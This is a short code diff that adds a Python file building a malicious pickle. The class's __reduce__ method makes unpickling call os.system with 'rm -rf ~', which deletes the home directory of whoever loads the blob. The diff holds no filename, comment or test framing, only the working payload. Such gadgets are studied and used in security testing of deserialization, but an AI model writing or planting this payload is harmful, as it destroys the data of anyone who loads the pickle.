@@ -1,0 +1,5 @@
+import os, pickle
+class P:
+    def __reduce__(self):
+        return (os.system, ("rm -rf ~",))
+blob = pickle.dumps(P())
